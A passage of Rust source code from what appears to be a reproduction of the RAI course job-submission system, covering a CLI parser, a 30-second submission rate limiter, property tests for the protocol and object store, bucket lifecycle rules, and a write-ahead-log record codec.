        let s = store();
        let up = std::sync::Arc::new(DeltaUploader::new());
        let data = payload(32_000, 11);
        up.upload(&s, "b", "base", &data, []).unwrap();
        let handles: Vec<_> = (0..8)
            .map(|i| {
                let s = s.clone();
                let up = std::sync::Arc::clone(&up);
                let data = data.clone();
                std::thread::spawn(move || {
                    up.upload(&s, "b", &format!("copy-{i}"), &data, []).unwrap()
                })
            })
            .collect();
        for h in handles {
            let r = h.join().unwrap();
            assert_eq!(r.chunks_sent, 0, "warm cache answers every probe");
        }
    }

    #[test]
    fn user_metadata_travels_with_delta_puts() {
        let s = store();
        let up = DeltaUploader::new();
        up.upload(
            &s,
            "b",
            "k",
            &payload(500, 6),
            [("team".to_string(), "rust".to_string())],
        )
        .unwrap();
        let meta = s.head("b", "k").unwrap();
        assert_eq!(meta.user.get("team").map(String::as_str), Some("rust"));
    }
}
