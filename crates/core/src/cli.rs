//! The command-line surface of the RAI client.
//!
//! The paper's client is "an interactive command line tool used for
//! project job submissions" with subcommands (`rai`, `rai submit`,
//! ranking checks) and a `-p` project-path flag. This module parses
//! that argv surface and renders the outputs; the examples and the
//! facade binary drive it against an in-process deployment.

use crate::client::{ProjectDir, SubmitMode, SubmitReceipt};
use crate::commands;
use crate::system::RaiSystem;
use rai_auth::Credentials;
use rai_archive::FileTree;

/// A parsed client invocation.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CliCommand {
    /// `rai [-p <dir>]` — development run.
    Run {
        /// Project directory (defaults to `.`).
        path: String,
    },
    /// `rai submit [-p <dir>]` — final submission.
    Submit {
        /// Project directory (defaults to `.`).
        path: String,
    },
    /// `rai rankings` — show the leaderboard.
    Rankings,
    /// `rai history [-n <limit>]` — show the team's submissions.
    History {
        /// Maximum rows.
        limit: usize,
    },
    /// `rai version` — the build information students paste into bug
    /// reports.
    Version,
    /// `rai help`.
    Help,
}

/// Argv parse error.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CliError(pub String);

impl std::fmt::Display for CliError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "rai: {}", self.0)
    }
}

impl std::error::Error for CliError {}

/// Usage text.
pub const USAGE: &str = "\
usage: rai [subcommand] [flags]
  rai [-p <dir>]           submit a development run of the project at <dir>
  rai submit [-p <dir>]    make the final competition submission
  rai rankings             show the (anonymized) leaderboard
  rai history [-n <N>]     show your team's last N submissions
  rai version              print client build information
  rai help                 this text
";

impl CliCommand {
    /// Parse an argv slice (without the program name).
    pub fn parse(args: &[&str]) -> Result<CliCommand, CliError> {
        fn take_flag<'a>(args: &[&'a str], flag: &str) -> Result<(Option<&'a str>, Vec<&'a str>), CliError> {
            let mut value = None;
            let mut rest = Vec::new();
            let mut i = 0;
            while i < args.len() {
                if args[i] == flag {
                    value = Some(
                        *args
                            .get(i + 1)
                            .ok_or_else(|| CliError(format!("{flag} requires a value")))?,
                    );
                    i += 2;
                } else {
                    rest.push(args[i]);
                    i += 1;
                }
            }
            Ok((value, rest))
        }

        let (path, rest) = take_flag(args, "-p")?;
        let path = path.unwrap_or(".").to_string();
        match rest.as_slice() {
            [] => Ok(CliCommand::Run { path }),
            ["submit"] => Ok(CliCommand::Submit { path }),
            ["rankings"] | ["ranking"] => Ok(CliCommand::Rankings),
            ["history"] => Ok(CliCommand::History { limit: 10 }),
            ["history", "-n", n] => n
                .parse()
                .map(|limit| CliCommand::History { limit })
                .map_err(|_| CliError(format!("invalid history limit {n:?}"))),
            ["version"] => Ok(CliCommand::Version),
            ["help"] | ["--help"] | ["-h"] => Ok(CliCommand::Help),
            other => Err(CliError(format!(
                "unknown arguments {:?}; try `rai help`",
                other.join(" ")
            ))),
        }
    }
}

/// Version string compiled into this client (see `delivery` for the
/// cross-compile matrix that stamps real commits).
pub fn version_string() -> String {
    format!(
        "rai client (reproduction) version {} spec-version {}",
        env!("CARGO_PKG_VERSION"),
        crate::spec::SUPPORTED_VERSION
    )
}

/// Execute a parsed command against a deployment on behalf of `creds`,
/// loading project directories through `load` (tests inject in-memory
/// trees; the facade binary uses `FileTree::from_disk`). Returns the
/// text the client prints.
pub fn execute(
    system: &mut RaiSystem,
    creds: &Credentials,
    command: &CliCommand,
    load: impl Fn(&str) -> Result<FileTree, String>,
) -> String {
    let run = |system: &mut RaiSystem, path: &str, mode: SubmitMode| -> String {
        let tree = match load(path) {
            Ok(t) => t,
            Err(e) => return format!("rai: cannot read project at {path:?}: {e}\n"),
        };
        let project = ProjectDir::new(tree);
        let result = match mode {
            SubmitMode::Run => system.submit(creds, &project),
            SubmitMode::Submit => system.submit_final(creds, &project),
        };
        match result {
            Ok(receipt) => render_receipt(&receipt),
            Err(e) => format!("rai: {e}\n"),
        }
    };
    match command {
        CliCommand::Run { path } => run(system, path, SubmitMode::Run),
        CliCommand::Submit { path } => run(system, path, SubmitMode::Submit),
        CliCommand::Rankings => commands::rankings(&system.rankings(), &creds.user_name),
        CliCommand::History { limit } => commands::history_text(system.db(), &creds.user_name, *limit),
        CliCommand::Version => format!("{}\n", version_string()),
        CliCommand::Help => USAGE.to_string(),
    }
}

fn render_receipt(receipt: &SubmitReceipt) -> String {
    let mut out = String::new();
    for line in &receipt.log {
        out.push_str(line);
        out.push('\n');
    }
    if let Some(url) = &receipt.build_url {
        out.push_str(&format!("build output: {url}\n"));
    }
    out.push_str(if receipt.success {
        "job succeeded\n"
    } else {
        "job FAILED\n"
    });
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::system::SystemConfig;

    #[test]
    fn parse_surface() {
        assert_eq!(CliCommand::parse(&[]), Ok(CliCommand::Run { path: ".".into() }));
        assert_eq!(
            CliCommand::parse(&["-p", "proj"]),
            Ok(CliCommand::Run { path: "proj".into() })
        );
        assert_eq!(
            CliCommand::parse(&["submit", "-p", "proj"]),
            Ok(CliCommand::Submit { path: "proj".into() })
        );
        assert_eq!(
            CliCommand::parse(&["-p", "proj", "submit"]),
            Ok(CliCommand::Submit { path: "proj".into() })
        );
        assert_eq!(CliCommand::parse(&["rankings"]), Ok(CliCommand::Rankings));
        assert_eq!(
            CliCommand::parse(&["history"]),
            Ok(CliCommand::History { limit: 10 })
        );
        assert_eq!(
            CliCommand::parse(&["history", "-n", "3"]),
            Ok(CliCommand::History { limit: 3 })
        );
        assert_eq!(CliCommand::parse(&["version"]), Ok(CliCommand::Version));
        assert_eq!(CliCommand::parse(&["help"]), Ok(CliCommand::Help));
        assert!(CliCommand::parse(&["-p"]).is_err());
        assert!(CliCommand::parse(&["frobnicate"]).is_err());
        assert!(CliCommand::parse(&["history", "-n", "lots"]).is_err());
    }

    #[test]
    fn execute_run_and_queries() {
        let mut system = RaiSystem::new(SystemConfig {
            rate_limit: None,
            ..Default::default()
        });
        let creds = system.register_team("cli-team", &[]);
        let project = ProjectDir::sample_cuda_project();
        let load = |path: &str| -> Result<FileTree, String> {
            if path == "proj" {
                Ok(project.tree.clone())
            } else {
                Err("no such directory".to_string())
            }
        };

        let out = execute(&mut system, &creds, &CliCommand::Run { path: "proj".into() }, load);
        assert!(out.contains("Building project"), "{out}");
        assert!(out.contains("job succeeded"));
        assert!(out.contains("build output:"));

        let out = execute(&mut system, &creds, &CliCommand::History { limit: 5 }, load);
        assert!(out.contains("run"), "{out}");

        let out = execute(&mut system, &creds, &CliCommand::Rankings, load);
        assert!(out.contains("no final submissions"), "{out}");

        let out = execute(
            &mut system,
            &creds,
            &CliCommand::Run { path: "missing".into() },
            load,
        );
        assert!(out.contains("cannot read project"), "{out}");

        let out = execute(&mut system, &creds, &CliCommand::Version, load);
        assert!(out.contains("rai client"));
        assert!(execute(&mut system, &creds, &CliCommand::Help, load).contains("usage:"));
    }

    #[test]
    fn execute_submit_reports_missing_artifacts() {
        let mut system = RaiSystem::new(SystemConfig {
            rate_limit: None,
            ..Default::default()
        });
        let creds = system.register_team("cli-team", &[]);
        let tree = ProjectDir::sample_cuda_project().tree;
        let load = move |_: &str| Ok(tree.clone());
        let out = execute(&mut system, &creds, &CliCommand::Submit { path: ".".into() }, &load);
        assert!(out.contains("USAGE"), "{out}");
    }
}
