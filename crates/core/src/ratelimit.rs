//! Submission rate limiting (paper §V): "to limit denial of service
//! attacks and to maintain fairness, each student can only submit a job
//! every 30 seconds."

use parking_lot::Mutex;
use rai_sim::{SimDuration, SimTime, VirtualClock};
use std::collections::HashMap;

/// Per-key minimum-interval rate limiter over virtual time.
pub struct RateLimiter {
    min_interval: SimDuration,
    clock: VirtualClock,
    last_seen: Mutex<HashMap<String, SimTime>>,
}

/// Result of a rate-limit check.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RateDecision {
    /// Allowed; the attempt is recorded.
    Allowed,
    /// Denied; retry after this long.
    Denied { retry_after: SimDuration },
}

impl RateLimiter {
    /// The paper's 30-second policy.
    pub fn paper_default(clock: VirtualClock) -> Self {
        Self::new(clock, SimDuration::from_secs(30))
    }

    /// A limiter with a custom interval.
    pub fn new(clock: VirtualClock, min_interval: SimDuration) -> Self {
        RateLimiter {
            min_interval,
            clock,
            last_seen: Mutex::new(HashMap::new()),
        }
    }

    /// Check (and on success record) an attempt for `key`.
    pub fn check(&self, key: &str) -> RateDecision {
        let now = self.clock.now();
        let mut seen = self.last_seen.lock();
        if let Some(&last) = seen.get(key) {
            let since = now.duration_since(last);
            if since < self.min_interval {
                return RateDecision::Denied {
                    retry_after: self.min_interval - since,
                };
            }
        }
        seen.insert(key.to_string(), now);
        RateDecision::Allowed
    }

    /// The configured interval.
    pub fn min_interval(&self) -> SimDuration {
        self.min_interval
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn enforces_thirty_seconds() {
        let clock = VirtualClock::new();
        let rl = RateLimiter::paper_default(clock.clone());
        assert_eq!(rl.check("alice"), RateDecision::Allowed);
        match rl.check("alice") {
            RateDecision::Denied { retry_after } => {
                assert_eq!(retry_after, SimDuration::from_secs(30))
            }
            other => panic!("expected denial, got {other:?}"),
        }
        clock.advance(SimDuration::from_secs(29));
        assert!(matches!(rl.check("alice"), RateDecision::Denied { .. }));
        clock.advance(SimDuration::from_secs(1));
        assert_eq!(rl.check("alice"), RateDecision::Allowed);
    }

    #[test]
    fn keys_are_independent() {
        let clock = VirtualClock::new();
        let rl = RateLimiter::paper_default(clock);
        assert_eq!(rl.check("alice"), RateDecision::Allowed);
        assert_eq!(rl.check("bob"), RateDecision::Allowed);
    }

    #[test]
    fn denied_attempts_do_not_reset_the_window() {
        let clock = VirtualClock::new();
        let rl = RateLimiter::paper_default(clock.clone());
        rl.check("t");
        clock.advance(SimDuration::from_secs(20));
        assert!(matches!(rl.check("t"), RateDecision::Denied { .. }));
        clock.advance(SimDuration::from_secs(10));
        // 30s since the *allowed* attempt → allowed again.
        assert_eq!(rl.check("t"), RateDecision::Allowed);
    }

    #[test]
    fn retry_after_counts_down() {
        let clock = VirtualClock::new();
        let rl = RateLimiter::paper_default(clock.clone());
        rl.check("t");
        clock.advance(SimDuration::from_secs(12));
        match rl.check("t") {
            RateDecision::Denied { retry_after } => {
                assert_eq!(retry_after, SimDuration::from_secs(18));
            }
            other => panic!("{other:?}"),
        }
    }
}
