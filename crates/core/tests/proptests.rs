//! Property tests for the core protocol surface: everything a student
//! (or attacker) can feed the system parses or fails cleanly, and the
//! wire formats round-trip.

use proptest::prelude::*;
use rai_core::protocol::{JobKind, JobRequest, LogFrame};
use rai_core::spec::BuildSpec;

fn arb_request() -> impl Strategy<Value = JobRequest> {
    (
        any::<u64>(),
        "[a-zA-Z0-9-]{1,30}",
        "[a-f0-9]{64}",
        "[a-zA-Z0-9 _-]{1,20}",
        "[a-z0-9/._-]{1,40}",
        prop_oneof![Just(JobKind::Run), Just(JobKind::Submit)],
        // Build files with tricky content: quotes, colons, unicode-free
        // printable ASCII plus newlines.
        "[ -~\\n]{0,200}",
    )
        .prop_map(|(job_id, access_key, signature, team, upload_key, kind, build_yml)| JobRequest {
            job_id,
            access_key,
            signature,
            team,
            upload_bucket: "rai-uploads".to_string(),
            upload_key,
            build_yml,
            kind,
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn job_request_round_trips(req in arb_request()) {
        let encoded = req.encode();
        let decoded = JobRequest::decode(&encoded).expect("own encoding must decode");
        prop_assert_eq!(decoded, req);
    }

    #[test]
    fn job_request_decode_never_panics(text in "[ -~\\n]{0,400}") {
        let _ = JobRequest::decode(&text);
    }

    #[test]
    fn signing_payload_is_injective_in_team_and_key(req in arb_request(), other_team in "[a-zA-Z0-9 _-]{1,20}") {
        prop_assume!(other_team != req.team);
        let mut changed = req.clone();
        changed.team = other_team;
        prop_assert_ne!(req.signing_payload(), changed.signing_payload());
    }

    #[test]
    fn log_frames_round_trip(
        kind in 0u8..5,
        text in "[ -~]{0,120}",
    ) {
        let frame = match kind {
            0 => LogFrame::Out(text),
            1 => LogFrame::Err(text),
            2 => LogFrame::Status(text),
            3 => LogFrame::BuildUrl(text),
            _ => LogFrame::End { success: text.len() % 2 == 0 },
        };
        prop_assert_eq!(LogFrame::decode(&frame.encode()), frame);
    }

    #[test]
    fn build_spec_parse_never_panics(text in "[ -~\\n]{0,400}") {
        let _ = BuildSpec::parse(&text);
    }

    #[test]
    fn build_spec_accepts_generated_valid_files(
        image in "[a-z][a-z0-9/:.-]{0,20}",
        // Commands start with a letter so YAML plain-scalar type
        // inference cannot reinterpret them (e.g. `.0` parses as a
        // float, which the spec layer rightly rejects as a command).
        commands in prop::collection::vec("[a-zA-Z][a-zA-Z0-9 ./_-]{0,39}", 1..10),
    ) {
        let mut yml = format!("rai:\n  version: 0.1\n  image: {image}\ncommands:\n  build:\n");
        for c in &commands {
            yml.push_str(&format!("    - {}\n", c.trim()));
        }
        // Commands that trim to empty would be rejected; skip those.
        prop_assume!(commands.iter().all(|c| !c.trim().is_empty()));
        let spec = BuildSpec::parse(&yml).expect("generated file is valid");
        prop_assert_eq!(spec.image, image);
        prop_assert_eq!(spec.build.len(), commands.len());
        for (parsed, original) in spec.build.iter().zip(&commands) {
            prop_assert_eq!(parsed.as_str(), original.trim());
        }
    }
}
