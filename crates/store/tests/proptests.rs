//! Property tests for the content-addressed store: model-based
//! put/get/delete round-trips, dedup idempotence under re-upload, and
//! the physical-never-exceeds-logical invariant of the chunk arena.

use std::collections::BTreeMap;

use proptest::prelude::*;
use rai_sim::VirtualClock;
use rai_store::{LifecycleRule, ObjectStore};

fn store() -> ObjectStore {
    let s = ObjectStore::new(VirtualClock::new());
    s.create_bucket("keep", LifecycleRule::Keep).unwrap();
    s
}

/// A payload generator biased toward redundancy: short pseudorandom
/// seeds repeated a few times, so dedup actually has material to work
/// with (fully random payloads share nothing).
fn arb_payload() -> impl Strategy<Value = Vec<u8>> {
    (prop::collection::vec(any::<u8>(), 0..512), 1usize..6)
        .prop_map(|(base, reps)| base.repeat(reps))
}

fn arb_ops() -> impl Strategy<Value = Vec<(u8, Vec<u8>)>> {
    // Key index (small space so keys collide and overwrite) + payload.
    prop::collection::vec((0u8..6, arb_payload()), 1..16)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn puts_read_back_and_physical_never_exceeds_logical(ops in arb_ops()) {
        let s = store();
        let mut model: BTreeMap<String, Vec<u8>> = BTreeMap::new();
        for (k, payload) in &ops {
            let key = format!("obj-{k}");
            s.put("keep", &key, payload.clone(), []).unwrap();
            model.insert(key, payload.clone());
            let u = s.usage();
            prop_assert!(
                u.bytes_physical <= u.bytes_stored,
                "physical {} exceeded logical {}",
                u.bytes_physical,
                u.bytes_stored
            );
        }
        // Every live object reassembles to exactly what the model holds.
        for (key, expected) in &model {
            let got = s.get("keep", key).unwrap();
            prop_assert_eq!(got.data.as_ref(), &expected[..]);
        }
        let u = s.usage();
        let logical: u64 = model.values().map(|v| v.len() as u64).sum();
        prop_assert_eq!(u.bytes_stored, logical);
    }

    #[test]
    fn re_upload_is_physically_idempotent(ops in arb_ops()) {
        let s = store();
        let mut model: BTreeMap<String, Vec<u8>> = BTreeMap::new();
        for (k, payload) in &ops {
            let key = format!("obj-{k}");
            s.put("keep", &key, payload.clone(), []).unwrap();
            model.insert(key, payload.clone());
        }
        let before = s.usage();
        // Re-uploading every object verbatim must not grow the arena:
        // all chunks are already resident, so every retain is a dedup
        // hit and physical/logical/chunk counts stay fixed.
        for (key, payload) in &model {
            s.put("keep", key, payload.clone(), []).unwrap();
        }
        let after = s.usage();
        prop_assert_eq!(after.bytes_physical, before.bytes_physical);
        prop_assert_eq!(after.bytes_stored, before.bytes_stored);
        prop_assert_eq!(after.chunks, before.chunks);
        prop_assert!(after.chunks_dedup_total >= before.chunks_dedup_total);
        for (key, expected) in &model {
            let got = s.get("keep", key).unwrap();
            prop_assert_eq!(got.data.as_ref(), &expected[..]);
        }
    }

    #[test]
    fn deleting_everything_frees_every_chunk(ops in arb_ops()) {
        let s = store();
        let mut keys = std::collections::BTreeSet::new();
        for (k, payload) in &ops {
            let key = format!("obj-{k}");
            s.put("keep", &key, payload.clone(), []).unwrap();
            keys.insert(key);
        }
        for key in &keys {
            s.delete("keep", key).unwrap();
        }
        let u = s.usage();
        prop_assert_eq!(u.objects, 0);
        prop_assert_eq!(u.bytes_stored, 0);
        prop_assert_eq!(u.bytes_physical, 0, "leaked chunk bytes after deleting all objects");
        prop_assert_eq!(u.chunks, 0, "leaked chunks after deleting all objects");
    }
}
