//! Bucket lifecycle rules — the "files get deleted after 1–3 months"
//! policy from the paper, parameterized.

use rai_sim::{SimDuration, SimTime};

/// When an object becomes eligible for expiry.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum LifecycleRule {
    /// Never expires (the paper's ranking database bucket).
    Keep,
    /// Expire a fixed duration after upload (the worker-output bucket:
    /// "between 1 and 3 months").
    AfterUpload(SimDuration),
    /// Expire a fixed duration after last use (the client-upload bucket:
    /// "deleted one month after the last use").
    AfterLastUse(SimDuration),
}

impl LifecycleRule {
    /// The paper's client-upload policy.
    pub fn one_month_after_last_use() -> Self {
        LifecycleRule::AfterLastUse(SimDuration::from_days(30))
    }

    /// Whether an object with the given timestamps is expired at `now`.
    pub fn is_expired(&self, uploaded_at: SimTime, last_used: SimTime, now: SimTime) -> bool {
        match self {
            LifecycleRule::Keep => false,
            LifecycleRule::AfterUpload(ttl) => now.duration_since(uploaded_at) > *ttl,
            LifecycleRule::AfterLastUse(ttl) => now.duration_since(last_used) > *ttl,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keep_never_expires() {
        assert!(!LifecycleRule::Keep.is_expired(SimTime::ZERO, SimTime::ZERO, SimTime::MAX));
    }

    #[test]
    fn after_upload_ignores_access() {
        let r = LifecycleRule::AfterUpload(SimDuration::from_days(30));
        let up = SimTime::ZERO;
        let accessed = SimTime::ZERO + SimDuration::from_days(29);
        assert!(!r.is_expired(up, accessed, SimTime::ZERO + SimDuration::from_days(30)));
        assert!(r.is_expired(up, accessed, SimTime::ZERO + SimDuration::from_days(31)));
    }

    #[test]
    fn after_last_use_refreshes() {
        let r = LifecycleRule::one_month_after_last_use();
        let up = SimTime::ZERO;
        let used = SimTime::ZERO + SimDuration::from_days(20);
        // 31 days after upload but only 11 after last use: alive.
        assert!(!r.is_expired(up, used, SimTime::ZERO + SimDuration::from_days(31)));
        // 31 days after last use: expired.
        assert!(r.is_expired(up, used, SimTime::ZERO + SimDuration::from_days(52)));
    }
}
