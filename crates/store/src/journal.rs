//! Durability for the object store: logical records journaled to a
//! [`rai_wal::Wal`] and replayed by
//! [`ObjectStore::recover`](crate::ObjectStore::recover).
//!
//! A [`StoreRecord::Put`] journals the manifest plus only the chunk
//! bytes that were *newly admitted* to the arena by that put — dedup
//! hits reference bytes an earlier record already carries, so the log
//! inherits the store's own dedup ratio. Replay re-runs the retain
//! logic, which reconstructs refcounts and dedup accounting; an object
//! whose chunk bytes were lost to a corrupt-record drop is itself
//! dropped (and counted) rather than installed unreadable.
//!
//! Timestamps are journaled (`uploaded_at`/`last_used` drive lifecycle
//! expiry) because replay runs at recovery time, not historical time.

use crate::lifecycle::LifecycleRule;
use crate::object::ObjectMeta;
use bytes::Bytes;
use rai_archive::chunk::{ChunkManifest, ChunkRef};
use rai_sim::{SimDuration, SimTime};
use std::collections::BTreeMap;

// ---- primitive codec -------------------------------------------------

fn put_u32(out: &mut Vec<u8>, v: u32) {
    out.extend_from_slice(&v.to_le_bytes());
}

fn put_u64(out: &mut Vec<u8>, v: u64) {
    out.extend_from_slice(&v.to_le_bytes());
}

fn put_str(out: &mut Vec<u8>, s: &str) {
    put_u32(out, s.len() as u32);
    out.extend_from_slice(s.as_bytes());
}

fn put_bytes(out: &mut Vec<u8>, b: &[u8]) {
    put_u32(out, b.len() as u32);
    out.extend_from_slice(b);
}

struct Reader<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Reader<'a> {
    fn new(bytes: &'a [u8]) -> Self {
        Reader { bytes, pos: 0 }
    }

    fn take(&mut self, n: usize) -> Option<&'a [u8]> {
        let end = self.pos.checked_add(n)?;
        if end > self.bytes.len() {
            return None;
        }
        let out = &self.bytes[self.pos..end];
        self.pos = end;
        Some(out)
    }

    fn u8(&mut self) -> Option<u8> {
        self.take(1).map(|b| b[0])
    }

    fn u32(&mut self) -> Option<u32> {
        self.take(4).map(|b| u32::from_le_bytes(b.try_into().expect("4 bytes")))
    }

    fn u64(&mut self) -> Option<u64> {
        self.take(8).map(|b| u64::from_le_bytes(b.try_into().expect("8 bytes")))
    }

    fn str(&mut self) -> Option<String> {
        let len = self.u32()? as usize;
        String::from_utf8(self.take(len)?.to_vec()).ok()
    }

    fn bytes(&mut self) -> Option<Bytes> {
        let len = self.u32()? as usize;
        self.take(len).map(Bytes::copy_from_slice)
    }

    fn done(&self) -> bool {
        self.pos == self.bytes.len()
    }
}

fn encode_rule(rule: &LifecycleRule, out: &mut Vec<u8>) {
    match rule {
        LifecycleRule::Keep => out.push(0),
        LifecycleRule::AfterUpload(d) => {
            out.push(1);
            put_u64(out, d.as_millis());
        }
        LifecycleRule::AfterLastUse(d) => {
            out.push(2);
            put_u64(out, d.as_millis());
        }
    }
}

fn decode_rule(r: &mut Reader<'_>) -> Option<LifecycleRule> {
    Some(match r.u8()? {
        0 => LifecycleRule::Keep,
        1 => LifecycleRule::AfterUpload(SimDuration::from_millis(r.u64()?)),
        2 => LifecycleRule::AfterLastUse(SimDuration::from_millis(r.u64()?)),
        _ => return None,
    })
}

fn encode_manifest(m: &ChunkManifest, out: &mut Vec<u8>) {
    put_u32(out, m.chunks.len() as u32);
    for c in &m.chunks {
        put_u64(out, c.digest);
        put_u32(out, c.len);
    }
    put_u64(out, m.total_len);
    put_str(out, &m.etag);
}

fn decode_manifest(r: &mut Reader<'_>) -> Option<ChunkManifest> {
    let n = r.u32()? as usize;
    let mut chunks = Vec::with_capacity(n.min(1 << 16));
    for _ in 0..n {
        chunks.push(ChunkRef { digest: r.u64()?, len: r.u32()? });
    }
    Some(ChunkManifest { chunks, total_len: r.u64()?, etag: r.str()? })
}

fn encode_user(user: &BTreeMap<String, String>, out: &mut Vec<u8>) {
    put_u32(out, user.len() as u32);
    for (k, v) in user {
        put_str(out, k);
        put_str(out, v);
    }
}

fn decode_user(r: &mut Reader<'_>) -> Option<BTreeMap<String, String>> {
    let n = r.u32()? as usize;
    let mut user = BTreeMap::new();
    for _ in 0..n {
        let k = r.str()?;
        let v = r.str()?;
        user.insert(k, v);
    }
    Some(user)
}

fn encode_chunk_list(chunks: &[(u64, Bytes)], out: &mut Vec<u8>) {
    put_u32(out, chunks.len() as u32);
    for (digest, data) in chunks {
        put_u64(out, *digest);
        put_bytes(out, data);
    }
}

fn decode_chunk_list(r: &mut Reader<'_>) -> Option<Vec<(u64, Bytes)>> {
    let n = r.u32()? as usize;
    let mut out = Vec::with_capacity(n.min(1 << 16));
    for _ in 0..n {
        let digest = r.u64()?;
        out.push((digest, r.bytes()?));
    }
    Some(out)
}

fn encode_meta(meta: &ObjectMeta, out: &mut Vec<u8>) {
    put_str(out, &meta.key);
    put_u64(out, meta.size);
    put_str(out, &meta.etag);
    put_u64(out, meta.uploaded_at.as_millis());
    put_u64(out, meta.last_used.as_millis());
    encode_user(&meta.user, out);
}

fn decode_meta(r: &mut Reader<'_>) -> Option<ObjectMeta> {
    Some(ObjectMeta {
        key: r.str()?,
        size: r.u64()?,
        etag: r.str()?,
        uploaded_at: SimTime::from_millis(r.u64()?),
        last_used: SimTime::from_millis(r.u64()?),
        user: decode_user(r)?,
    })
}

// ---- snapshot payload ------------------------------------------------

/// One object inside a [`StoreRecord::SnapshotStore`].
#[derive(Debug, Clone, PartialEq)]
pub struct SnapObject {
    /// Full metadata (timestamps included).
    pub meta: ObjectMeta,
    /// The object's chunk manifest.
    pub manifest: ChunkManifest,
}

/// One bucket inside a [`StoreRecord::SnapshotStore`].
#[derive(Debug, Clone, PartialEq)]
pub struct SnapBucket {
    /// Bucket name.
    pub name: String,
    /// Lifecycle rule.
    pub rule: LifecycleRule,
    /// Every object, in key order.
    pub objects: Vec<SnapObject>,
}

/// Cumulative store counters carried by a snapshot.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SnapCounters {
    /// Logical bytes ever uploaded.
    pub bytes_uploaded: u64,
    /// Bytes ever served.
    pub bytes_downloaded: u64,
    /// Wire bytes ever shipped on uploads.
    pub bytes_wire: u64,
    /// Put operations.
    pub puts: u64,
    /// Delta-put operations.
    pub delta_puts: u64,
    /// Get operations.
    pub gets: u64,
    /// Explicit deletes.
    pub deletes: u64,
    /// Lifecycle expirations.
    pub expired: u64,
    /// Dedup hits in the chunk arena.
    pub dedup_hits: u64,
}

// ---- logical records -------------------------------------------------

/// One committed store mutation, as journaled to the WAL.
#[derive(Debug, Clone, PartialEq)]
pub enum StoreRecord {
    /// `create_bucket(name, rule)`.
    CreateBucket {
        /// Bucket name.
        name: String,
        /// Lifecycle rule.
        rule: LifecycleRule,
    },
    /// A successful `put`/`put_delta`: manifest plus only the chunks
    /// this put newly admitted to the arena.
    Put {
        /// Target bucket.
        bucket: String,
        /// Object key.
        key: String,
        /// Upload time (becomes `uploaded_at` and `last_used`).
        time_millis: u64,
        /// The object's manifest.
        manifest: ChunkManifest,
        /// Chunks admitted by this put: `(digest, bytes)`.
        new_chunks: Vec<(u64, Bytes)>,
        /// User metadata.
        user: BTreeMap<String, String>,
        /// Wire bytes this upload cost (for counter reconstruction).
        wire_bytes: u64,
        /// Whether this was a delta put.
        delta: bool,
    },
    /// A successful `get`: refreshes `last_used` (lifecycle-relevant)
    /// and reconstructs download counters.
    Touch {
        /// Target bucket.
        bucket: String,
        /// Object key.
        key: String,
        /// Access time.
        time_millis: u64,
        /// Object size at access (for `bytes_downloaded`).
        size: u64,
    },
    /// A successful `delete`.
    Delete {
        /// Target bucket.
        bucket: String,
        /// Object key.
        key: String,
    },
    /// A lifecycle sweep that expired at least one object, replayed at
    /// its recorded time.
    Sweep {
        /// Sweep time.
        time_millis: u64,
    },
    /// Compaction snapshot of the whole store: buckets, objects,
    /// distinct chunk bytes, and cumulative counters.
    SnapshotStore {
        /// Every bucket, in name order.
        buckets: Vec<SnapBucket>,
        /// Every distinct resident chunk, in digest order.
        chunks: Vec<(u64, Bytes)>,
        /// Cumulative counters.
        counters: SnapCounters,
    },
    /// A chunk newly admitted to one arena shard, journaled to that
    /// shard's own log stream (sharded mode only; at `shards == 1`
    /// chunk bytes ride [`StoreRecord::Put::new_chunks`] instead).
    /// Replay pre-installs these at refcount zero before the main
    /// object log runs, so `Put` records never carry bytes and the
    /// main-log order is independent of shard-log order.
    ChunkInstall {
        /// The chunk's content digest (also selects the shard).
        digest: u64,
        /// The chunk's bytes.
        bytes: Bytes,
    },
}

impl StoreRecord {
    /// Serialize to a WAL payload.
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::new();
        match self {
            StoreRecord::CreateBucket { name, rule } => {
                out.push(1);
                put_str(&mut out, name);
                encode_rule(rule, &mut out);
            }
            StoreRecord::Put {
                bucket,
                key,
                time_millis,
                manifest,
                new_chunks,
                user,
                wire_bytes,
                delta,
            } => {
                out.push(2);
                put_str(&mut out, bucket);
                put_str(&mut out, key);
                put_u64(&mut out, *time_millis);
                encode_manifest(manifest, &mut out);
                encode_chunk_list(new_chunks, &mut out);
                encode_user(user, &mut out);
                put_u64(&mut out, *wire_bytes);
                out.push(u8::from(*delta));
            }
            StoreRecord::Touch { bucket, key, time_millis, size } => {
                out.push(3);
                put_str(&mut out, bucket);
                put_str(&mut out, key);
                put_u64(&mut out, *time_millis);
                put_u64(&mut out, *size);
            }
            StoreRecord::Delete { bucket, key } => {
                out.push(4);
                put_str(&mut out, bucket);
                put_str(&mut out, key);
            }
            StoreRecord::Sweep { time_millis } => {
                out.push(5);
                put_u64(&mut out, *time_millis);
            }
            StoreRecord::SnapshotStore { buckets, chunks, counters } => {
                out.push(6);
                put_u32(&mut out, buckets.len() as u32);
                for b in buckets {
                    put_str(&mut out, &b.name);
                    encode_rule(&b.rule, &mut out);
                    put_u32(&mut out, b.objects.len() as u32);
                    for o in &b.objects {
                        encode_meta(&o.meta, &mut out);
                        encode_manifest(&o.manifest, &mut out);
                    }
                }
                encode_chunk_list(chunks, &mut out);
                let c = counters;
                for v in [
                    c.bytes_uploaded,
                    c.bytes_downloaded,
                    c.bytes_wire,
                    c.puts,
                    c.delta_puts,
                    c.gets,
                    c.deletes,
                    c.expired,
                    c.dedup_hits,
                ] {
                    put_u64(&mut out, v);
                }
            }
            StoreRecord::ChunkInstall { digest, bytes } => {
                out.push(7);
                put_u64(&mut out, *digest);
                put_bytes(&mut out, bytes);
            }
        }
        out
    }

